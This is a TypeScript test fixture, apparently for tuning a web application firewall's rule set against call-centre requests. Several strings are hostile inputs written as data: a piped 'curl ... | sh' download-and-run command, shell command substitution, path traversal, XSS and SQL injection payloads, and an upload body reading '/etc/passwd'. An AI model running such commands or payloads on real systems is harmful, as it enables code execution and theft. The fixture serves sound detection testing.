/** What people of a call centre write, name and send every day. */
import type { Request } from "./programs.ts";
import { form, get, post, upload } from "./requests.ts";

/** Texts of cases, by the file of the core rule set whose rules take each for an attack. No other file's do. */
export const texts: Readonly<Record<number, readonly string[]>> = {
  930: ["The installer wrote to ../../../../etc/hosts on the customer's machine"],
  932: [
    "To renew the lease: ; curl https://setup.example.com/agent.sh | sh",
    "Technician ran $(hostname) and `uname -a` on the phone system",
  ],
  933: ["She wants to exec(utive) order and sleep on it (10 days).", "Their site shows <?php echo $title ?> as text"],
  941: [
    '<p>Dear customer,</p><script src="https://cdn.example.com/survey.js"></script>',
    'The page shows <img src="broken.png" onerror="alert(1)"> instead of the logo',
  ],
  942: [
    "The report fails with: SELECT name FROM customers WHERE id = 7 UNION SELECT name FROM archive",
    "The table in the waiting room is broken; drop it off at desk 5.",
    "Please order by phone or group your tickets, having read the terms.",
    "We offer union discounts; all members select them from their account.",
    "客户想更改送货地址",
  ],
};

/** Texts that no rule is to mind in the fields of a case. */
const plain = [
  "Customer called about invoice 2026-0042; she will pay on Friday.",
  "Call back at +254 (0)20 123-4567 ext. 9, between 9:00 and 11:30.",
  "Mteja anauliza kwa nini simu yake haifanyi kazi tangu jana.",
  "العميل يسأل عن الفاتورة الأخيرة ويريد إلغاء الاشتراك",
  "Vielen Dank für Ihre Nachricht – wir melden uns binnen 24 Stunden. Grüße, Jörg",
  "Thanks! 🙏😀 Your ticket is solved ✅",
  "Caller's name is O'Brien; wife is D'Angelo-Smith.",
  'He said "never again" & hung up (2nd time this week!).',
  "Refund 50% of €129.99 = €65.00; rest as voucher #A-17/3",
  "Select a plan from the list, then drop us a line and update your details.",
  "See https://help.example.com/articles/42?lang=en#reset for how to reset a password.",
  "Write to support@example.com or sales@example.co.ke",
  "Step 1: open Settings -> Network; step 2: switch Wi-Fi off/on; step 3: restart.",
  "Line one\nLine two\n\n- item\n- item\n\nRegards,\nWanjiku",
  "C:\\ drive is full, says the customer",
  "Error 0x80070005: access denied",
  "Escalate if no answer by 2026-12-24T18:00:00+03:00",
  "Null called, Mr. Null, from the town of True.",
  "IVR: press 1 for sales, 2 for support, * to repeat, # to end",
];

/** Templates of messages, as an editor saves them. */
const templates = [
  "Hello {{customer.name}}, your case {{case.number}} is {{case.status}}.",
  "Dear {first_name}, agent %agent% will call you at ${time}.",
  "{{#if open}}Still open{{else}}Closed{{/if}} since {{date}}",
];

const names = [
  "O'Brien",
  "Null",
  "Ünal",
  "Nguyễn Thị Minh",
  "N'Golo",
  "Anne-Marie D'Souza",
  "محمد",
  "Drop, Jan",
  "True",
];

const files = [
  "invoice 2026-0042.pdf",
  "Rechnung (Kopie) Müller & Söhne.docx",
  "call_2026-11-02T10-15-00.wav",
  "screenshot #2 100%.png",
  "O'Brien-contract.final.v2.pdf",
];

/** Where people write, by path and field. */
const written = {
  "/api/v1/cases": ["subject", "description", "body"],
  "/api/v1/cases/4711/comments": ["comment"],
  "/api/v1/cases/4711/notes": ["note"],
  "/api/v1/communications/messages": ["subject", "body", "note"],
  "/api/v1/communications/templates": ["template"],
  "/api/v1/notifications": ["subject", "body"],
  "/api/v1/notifications/templates": ["template"],
  "/api/v1/workflows": ["description", "template"],
  "/api/v1/workflows/7/steps": ["comment", "note"],
};

const token = "eyJhbGciOiJFUzI1NiIsImtpZCI6IjEifQ.eyJzdWIiOiI0MiIsInRlbmFudCI6ImEifQ.c2lnbmF0dXJlLW9mLWEtdGVzdA";

/** Requests of the product, each with what it is. */
export const requests: [what: string, request: Request][] = [
  ...plain.map((text): [string, Request] => [
    `a case: ${text}`,
    post("/api/v1/cases", { subject: text.split("\n")[0]!, description: text, priority: 2 }),
  ]),
  ...Object.entries(written).flatMap(([path, fields]) =>
    fields.flatMap((field) =>
      Object.values(texts).flatMap((list) =>
        list.map((text): [string, Request] => [`${field} of ${path}: ${text}`, post(path, { [field]: text })]),
      ),
    ),
  ),
  ...templates.map((text): [string, Request] => [
    `a template: ${text}`,
    post("/api/v1/notifications/templates", { template: text }),
  ]),
  ...names.flatMap((name): [string, Request][] => [
    [`a caller: ${name}`, post("/api/v1/cases", { caller: { name, tags: ["vip", "callback"], age: null } })],
    [`a search: ${name}`, get(`/api/v1/cases?q=${encodeURIComponent(name)}&page=1&sort=-createdAt`)],
  ]),
  ...files.map((name): [string, Request] => [
    `a file: ${name}`,
    upload("/api/v1/cases/4711/attachments", name, "PK\u0003\u0004 ; cat /etc/passwd <script>"),
  ]),
  ["the web application", get("/")],
  ["a part of it", get("/assets/index-B7kq2.js?v=1.2.3", [["accept", "*/*"]])],
  [
    "a signed-in call",
    get("/api/v1/cases/0198f2a0-7c1e-7d3a-9c1b-2f6e5d4c3b2a", [["authorization", `Bearer ${token}`]]),
  ],
  [
    "a change",
    post("/api/v1/cases/4711", { status: "closed", closedAt: "2026-11-02T10:15:00Z" }, "application/json", "PATCH"),
  ],
  ["a removal", { ...get("/api/v1/cases/4711/notes/3"), method: "DELETE" }],
  [
    "a preflight",
    {
      ...get("/api/v1/cases", [
        ["origin", "https://app.example.com"],
        ["access-control-request-method", "PUT"],
      ]),
      method: "OPTIONS",
    },
  ],
  ["a sign-in", post("/api/v1/auth/login", { email: "wanjiku@example.com", password: "c0rrect-horse Battery!" })],
  [
    "a callback of OAuth",
    get("/api/v1/auth/oauth/google/callback?code=4%2F0AX4XfWh-a_b&state=Zm9vLmJhcg.c2ln&scope=openid%20email"),
  ],
  [
    "a webhook of a text message",
    form("/api/v1/communications/webhooks/sms", { From: "+254712345678", Body: "STOP please", NumMedia: "0" }),
  ],
  [
    "a socket",
    get("/api/v1/communications/socket", [
      ["upgrade", "websocket"],
      ["sec-websocket-version", "13"],
      ["sec-websocket-key", "dGhlIHNhbXBsZSBub25jZQ=="],
    ]),
  ],
];
